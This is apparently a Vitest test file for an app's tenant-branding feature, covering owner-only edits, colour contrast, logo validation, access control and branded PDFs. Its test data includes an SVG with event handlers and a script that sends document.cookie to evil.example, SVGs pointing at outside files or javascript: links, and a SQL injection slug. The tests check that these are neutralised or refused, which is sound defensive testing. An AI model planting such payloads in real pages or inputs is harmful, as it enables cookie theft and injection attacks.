import { execFile } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { beforeEach, describe, expect, it } from "vitest";
import { GET as logoRoute } from "@/app/api/brand/[tenantId]/logo/route";
import { GET as pdfRoute } from "@/app/api/reports/[id]/pdf/route";
import { updateBrandAction } from "@/lib/actions/brand";
import { withDbContext } from "@/lib/db/context";
import { getSignInBrand } from "@/lib/domain/brand/get-sign-in-brand";
import { readPngSize } from "@/lib/brand/logo";
import { createUser, createWorld, type World } from "@/lib/seed/factories";
import { testLogoPng } from "@/tests/support/brand";
import { ownerDb } from "@/tests/support/db";
import { pdfUsesColour } from "@/tests/support/pdf";
import { actAs, anonymous } from "@/tests/support/session";
import { report, sampleContent } from "./reports-support";

const run = promisify(execFile);

/**
 * The MSP's brand (issue 18, item 4): the owner alone sets it, the colour keeps WCAG AA, the logo
 * is stored as a PNG resvg drew, the logo route serves it to the tenant's members only, and the
 * sign-in page of a tenant's link sees the brand and nothing else.
 */
const b64 = (bytes: Buffer | string) => Buffer.from(bytes).toString("base64");
const VALUES = {
  displayName: "Northwind Care",
  primaryColor: "#1D4ED8",
  supportEmail: "Help@Example.test",
  supportPhone: "+44 20 7946 0018",
};
const SCRIPTED_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" onload="alert(document.cookie)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect width="120" height="40" fill="#0f766e" onclick="alert(1)"/>
  <set attributeName="onmouseover" to="alert(1)"/>
</svg>`;
const EXTERNAL_SVGS = [
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><image href="https://evil.example/pixel.png" width="10" height="10"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><image xlink:href="/etc/ssl/private/key.png" width="10" height="10"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><image href="&#47;var&#47;lib&#47;logo.png" width="10" height="10"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><a href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>',
];

const fetchLogo = (tenantId: string, init: RequestInit = {}) =>
  logoRoute(new Request(`http://localhost/api/brand/${tenantId}/logo`, init), {
    params: Promise.resolve({ tenantId }),
  });

let world: World;
beforeEach(async () => {
  world = await createWorld(ownerDb());
});

describe("the brand form (owner)", () => {
  it("saves name, colour, contacts and a PNG logo, stored as a fresh PNG, versioned and audited", async () => {
    actAs(world.owner.user);
    const png = testLogoPng();
    const saved = await updateBrandAction({
      ...VALUES,
      logo: { type: "image/png", data: b64(png) },
      expectedVersion: 0,
    });
    expect(saved).toEqual({ ok: true, data: { version: 1 } });
    const row = await ownerDb().tenantBrand.findUniqueOrThrow({ where: { tenantId: world.tenant.id } });
    expect(row).toMatchObject({
      displayName: "Northwind Care",
      primaryColor: "#1d4ed8",
      supportEmail: "help@example.test",
      supportPhone: "+44 20 7946 0018",
      logoWidth: 64,
      logoHeight: 32,
      version: 1,
    });
    const stored = Buffer.from(row.logoPng!);
    expect(readPngSize(stored)).toEqual({ width: 64, height: 32 });
    expect(row.logoSha256).toBe(createHash("sha256").update(stored).digest("hex"));
    const event = await ownerDb().auditEvent.findFirstOrThrow({
      where: { tenantId: world.tenant.id, action: "brand.update" },
    });
    expect(event.metadata).toMatchObject({
      changes: {
        displayName: { from: null, to: "Northwind Care" },
        primaryColor: { from: null, to: "#1d4ed8" },
        logoSha256: { from: null, to: row.logoSha256 },
      },
    });

    // Without a new file the logo stays; a stale form is a conflict and changes nothing.
    expect(await updateBrandAction({ ...VALUES, displayName: "Renamed", expectedVersion: 1 })).toEqual({
      ok: true,
      data: { version: 2 },
    });
    expect(await updateBrandAction({ ...VALUES, displayName: "Stale", expectedVersion: 1 })).toMatchObject({
      ok: false,
      code: "CONFLICT",
    });
    const after = await ownerDb().tenantBrand.findUniqueOrThrow({ where: { tenantId: world.tenant.id } });
    expect(after).toMatchObject({ displayName: "Renamed", logoSha256: row.logoSha256, version: 2 });

    // Blank fields are "not set"; removing the logo clears it.
    expect(
      await updateBrandAction({
        displayName: "",
        primaryColor: "",
        supportEmail: "",
        supportPhone: "",
        removeLogo: "on",
        expectedVersion: 2,
      }),
    ).toMatchObject({ ok: true });
    expect(await ownerDb().tenantBrand.findUniqueOrThrow({ where: { tenantId: world.tenant.id } })).toMatchObject({
      displayName: null,
      primaryColor: null,
      supportEmail: null,
      supportPhone: null,
      logoPng: null,
      logoSha256: null,
    });
  });

  it("refuses a low-contrast colour next to the field, with the ratio and the background it fails on", async () => {
    actAs(world.owner.user);
    const result = await updateBrandAction({ ...VALUES, primaryColor: "#facc15", expectedVersion: 0 });
    if (result.ok) throw new Error("expected a refusal");
    expect(result.code).toBe("VALIDATION");
    expect(result.fieldErrors?.primaryColor).toMatch(
      /^This colour is too light to read: 1\.\d:1 against light grey panels/,
    );
    expect(result.fieldErrors?.primaryColor).toContain("4.5:1 needed (WCAG AA)");
    // On white it would pass, but not on the page's light grey.
    const grey = await updateBrandAction({ ...VALUES, primaryColor: "#767676", expectedVersion: 0 });
    expect(grey).toMatchObject({
      ok: false,
      fieldErrors: { primaryColor: expect.stringMatching(/4\.[0-4]:1 against/) },
    });
    expect(await ownerDb().tenantBrand.count({ where: { tenantId: world.tenant.id } })).toBe(0);
  });

  it("says what is wrong with each field at once, and writes nothing", async () => {
    actAs(world.owner.user);
    const result = await updateBrandAction({
      displayName: "x".repeat(121),
      primaryColor: "blue",
      supportEmail: "not an address",
      supportPhone: "call us",
      logo: { type: "image/gif", data: "R0lGODlh" },
      expectedVersion: 0,
    });
    if (result.ok) throw new Error("expected a refusal");
    expect(result.fieldErrors).toMatchObject({
      displayName: "Must be at most 120 characters.",
      primaryColor: "Enter a colour as # and six hexadecimal digits, for example #1d4ed8.",
      supportEmail: "Enter a valid email address.",
      supportPhone: expect.stringContaining("Enter a phone number"),
      "logo.type": "Choose one of the options.",
    });
    // A file that says PNG but is not one; a PNG too small; too many bytes.
    const notPng = await updateBrandAction({
      ...VALUES,
      logo: { type: "image/png", data: b64("GIF89a this is not a png at all, not at all") },
      expectedVersion: 0,
    });
    expect(notPng).toMatchObject({ ok: false, fieldErrors: { logo: "This file is not a PNG image." } });
    const tooBig = await updateBrandAction({
      ...VALUES,
      logo: { type: "image/png", data: b64(Buffer.alloc(210 * 1024, 1)) },
      expectedVersion: 0,
    });
    expect(tooBig).toMatchObject({ ok: false, fieldErrors: { "logo.data": "The logo is too large: 200 KB at most." } });
    expect(await ownerDb().tenantBrand.count({ where: { tenantId: world.tenant.id } })).toBe(0);
  });

  it("rasterizes an SVG with a script and event handlers into an inert PNG; refuses one pointing outside itself", async () => {
    actAs(world.owner.user);
    for (const svg of EXTERNAL_SVGS) {
      const refused = await updateBrandAction({
        ...VALUES,
        logo: { type: "image/svg+xml", data: b64(svg) },
        expectedVersion: 0,
      });
      expect(refused, svg).toMatchObject({
        ok: false,
        fieldErrors: { logo: expect.stringContaining("This SVG refers to files or addresses outside itself") },
      });
    }
    expect(await ownerDb().tenantBrand.count({ where: { tenantId: world.tenant.id } })).toBe(0);
    const saved = await updateBrandAction({
      ...VALUES,
      logo: { type: "image/svg+xml", data: b64(SCRIPTED_SVG) },
      expectedVersion: 0,
    });
    expect(saved).toMatchObject({ ok: true });
    const row = await ownerDb().tenantBrand.findUniqueOrThrow({ where: { tenantId: world.tenant.id } });
    const stored = Buffer.from(row.logoPng!);
    expect(readPngSize(stored)).toEqual({ width: 768, height: 256 });
    const text = stored.toString("latin1");
    for (const needle of ["<svg", "script", "onload", "onclick", "evil.example", "alert"])
      expect(text).not.toContain(needle);
  });

  it("is 404 for account managers, client users and platform admins; an owner only changes their own tenant", async () => {
    const admin = await createUser(ownerDb(), { isPlatformAdmin: true });
    for (const who of [world.manager.user, world.clientX.user, admin]) {
      actAs(who);
      expect(await updateBrandAction({ ...VALUES, expectedVersion: 0 })).toMatchObject({
        ok: false,
        code: "NOT_FOUND",
      });
    }
    expect(await ownerDb().tenantBrand.count({ where: { tenantId: world.tenant.id } })).toBe(0);
    const other = await createWorld(ownerDb());
    actAs(other.owner.user);
    expect(await updateBrandAction({ ...VALUES, expectedVersion: 0 })).toMatchObject({ ok: true });
    expect(await ownerDb().tenantBrand.count({ where: { tenantId: world.tenant.id } })).toBe(0);
    expect(await ownerDb().tenantBrand.count({ where: { tenantId: other.tenant.id } })).toBe(1);
  });

  it("row-level security: a client or manager cannot write the brand even around the application", async () => {
    await ownerDb().tenantBrand.create({ data: { tenantId: world.tenant.id, displayName: "Set by owner" } });
    for (const [userId, role] of [
      [world.manager.user.id, "ACCOUNT_MANAGER"],
      [world.clientX.user.id, "CLIENT"],
    ] as const) {
      const changed = await withDbContext(
        { tenantId: world.tenant.id, userId, role, organizationId: role === "CLIENT" ? world.orgX.id : null },
        (tx) =>
          tx.$executeRaw`UPDATE "TenantBrand" SET "displayName" = 'hijacked' WHERE "tenantId" = ${world.tenant.id}`,
      );
      expect(changed).toBe(0);
    }
    const other = await createWorld(ownerDb());
    const seen = await withDbContext(
      { tenantId: other.tenant.id, userId: other.owner.user.id, role: "OWNER" },
      (tx) =>
        tx.$queryRaw<
          { n: number }[]
        >`SELECT count(*)::int AS n FROM "TenantBrand" WHERE "tenantId" = ${world.tenant.id}`,
    );
    expect(seen[0]?.n).toBe(0);
    expect((await ownerDb().tenantBrand.findUniqueOrThrow({ where: { tenantId: world.tenant.id } })).displayName).toBe(
      "Set by owner",
    );
  });
});

describe("GET /api/brand/:tenantId/logo", () => {
  async function withLogo(w: World) {
    actAs(w.owner.user);
    const saved = await updateBrandAction({
      ...VALUES,
      logo: { type: "image/png", data: b64(testLogoPng()) },
      expectedVersion: 0,
    });
    expect(saved.ok).toBe(true);
    return (await ownerDb().tenantBrand.findUniqueOrThrow({ where: { tenantId: w.tenant.id } })).logoSha256!;
  }

  it("serves the tenant's members a PNG with nosniff and headers no cache can share; 304 when unchanged", async () => {
    const sha = await withLogo(world);
    for (const who of [world.clientX.user, world.clientY.user, world.manager.user, world.owner.user]) {
      actAs(who);
      const response = await fetchLogo(world.tenant.id);
      expect(response.status).toBe(200);
      expect(response.headers.get("content-type")).toBe("image/png");
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      expect(response.headers.get("cache-control")).toBe("private, no-cache");
      expect(response.headers.get("vary")).toBe("Cookie");
      expect(response.headers.get("etag")).toBe(`"${sha}"`);
      const body = Buffer.from(await response.arrayBuffer());
      expect(readPngSize(body)).toEqual({ width: 64, height: 32 });
    }
    actAs(world.clientX.user);
    const again = await fetchLogo(world.tenant.id, { headers: { "if-none-match": `"${sha}"` } });
    expect(again.status).toBe(304);
    expect(await again.text()).toBe("");
  });

  it("is 404 to another tenant's users (and to platform admins), 401 to the anonymous, 404 without a logo", async () => {
    await withLogo(world);
    const other = await createWorld(ownerDb());
    for (const who of [other.owner.user, other.manager.user, other.clientX.user]) {
      actAs(who);
      const response = await fetchLogo(world.tenant.id);
      expect(response.status).toBe(404);
      expect(response.headers.get("content-type")).toContain("application/json");
    }
    actAs(await createUser(ownerDb(), { isPlatformAdmin: true }));
    expect((await fetchLogo(world.tenant.id)).status).toBe(404);
    anonymous();
    expect((await fetchLogo(world.tenant.id)).status).toBe(401);
    // The other tenant has no logo: its own members get a 404 too.
    actAs(other.clientX.user);
    expect((await fetchLogo(other.tenant.id)).status).toBe(404);
  });
});

describe("the sign-in page's brand (/login?tenant=<slug>)", () => {
  it("is the name, colour and logo of an active branded tenant, nothing else; null for anything else", async () => {
    await ownerDb().tenantBrand.create({
      data: {
        tenantId: world.tenant.id,
        primaryColor: "#1d4ed8",
        supportEmail: "private@example.test",
        logoPng: new Uint8Array(testLogoPng()),
        logoSha256: "x",
        logoWidth: 64,
        logoHeight: 32,
      },
    });
    anonymous();
    const brand = await getSignInBrand(world.tenant.slug);
    expect(brand).toEqual({
      name: world.tenant.name,
      primaryColor: "#1d4ed8",
      logoDataUrl: `data:image/png;base64,${testLogoPng().toString("base64")}`,
    });
    expect(JSON.stringify(brand)).not.toContain("private@example.test");

    const unbranded = await createWorld(ownerDb());
    const suspended = await createWorld(ownerDb(), { tenant: { status: "SUSPENDED" } });
    await ownerDb().tenantBrand.create({ data: { tenantId: suspended.tenant.id, displayName: "Hidden" } });
    for (const slug of [unbranded.tenant.slug, suspended.tenant.slug, "no-such-tenant", "' OR 1=1 --", "UPPER", ""]) {
      expect(await getSignInBrand(slug), slug).toBeNull();
    }
    // The function is the one window: without it, the anonymous context sees no brand row at all.
    const rows = await withDbContext(
      {},
      (tx) => tx.$queryRaw<{ n: number }[]>`SELECT count(*)::int AS n FROM "TenantBrand"`,
    );
    expect(rows[0]?.n).toBe(0);
  });
});

describe("the report's PDF", () => {
  it("carries the brand's name, logo and colour, whoever downloads it; Mainstay's look without a brand", async () => {
    const dir = await mkdtemp(path.join(tmpdir(), "mainstay-brand-pdf-"));
    try {
      const published = await report({
        tenantId: world.tenant.id,
        organizationId: world.orgX.id,
        authorId: world.manager.user.id,
        period: "2025-03",
        status: "PUBLISHED",
        content: sampleContent(4),
      });
      const download = async (who: { id: string }) => {
        actAs(who);
        const response = await pdfRoute(new Request(`http://localhost/api/reports/${published.id}/pdf`), {
          params: Promise.resolve({ id: published.id }),
        });
        expect(response.status).toBe(200);
        const bytes = Buffer.from(await response.arrayBuffer());
        const file = path.join(dir, `${crypto.randomUUID()}.pdf`);
        await writeFile(file, bytes);
        const text = (await run("pdftotext", ["-layout", file, "-"])).stdout;
        const images = (await run("pdfimages", ["-list", file])).stdout;
        return { bytes, text, images };
      };
      const plain = await download(world.clientX.user);
      expect(plain.text).toContain(world.tenant.name);
      expect(plain.images).not.toMatch(/\bimage\b/);
      expect(pdfUsesColour(plain.bytes, "#4338ca")).toBe(true);

      actAs(world.owner.user);
      expect(
        await updateBrandAction({
          ...VALUES,
          primaryColor: "#0f766e",
          logo: { type: "image/png", data: b64(testLogoPng()) },
          expectedVersion: 0,
        }),
      ).toMatchObject({ ok: true });
      for (const who of [world.clientX.user, world.manager.user]) {
        const branded = await download(who);
        expect(branded.text).toContain("Northwind Care");
        expect(branded.text).not.toContain(world.tenant.name);
        expect(branded.images).toMatch(/\n\s*1\s+\d+\s+image\s+64\s+32\s/);
        expect(pdfUsesColour(branded.bytes, "#0f766e")).toBe(true);
        expect(pdfUsesColour(branded.bytes, "#4338ca")).toBe(false);
      }
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
